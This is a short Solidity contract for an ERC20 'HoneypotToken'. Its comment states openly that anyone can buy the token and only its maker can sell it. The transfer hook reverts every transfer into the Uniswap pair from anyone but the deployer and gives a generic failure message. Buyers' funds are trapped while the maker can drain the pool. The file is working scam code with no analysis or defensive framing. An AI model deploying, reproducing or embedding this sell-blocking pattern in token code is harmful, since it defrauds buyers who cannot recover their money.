// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Can be bought by anybody and sold by nobody but its maker: transfers into the pool revert.
contract HoneypotToken is ERC20 {
    address private immutable _maker;
    address public uniswapV2Pair;
    bool public tradingEnabled;

    constructor(string memory name, string memory symbol, uint256 supply) ERC20(name, symbol) {
        _maker = msg.sender;
        _mint(msg.sender, supply);
    }

    function openTrading(address pair) external {
        require(msg.sender == _maker);
        uniswapV2Pair = pair;
        tradingEnabled = true;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && tradingEnabled) require(from == _maker, "TRANSFER_FAILED");
        super._update(from, to, value);
    }
}
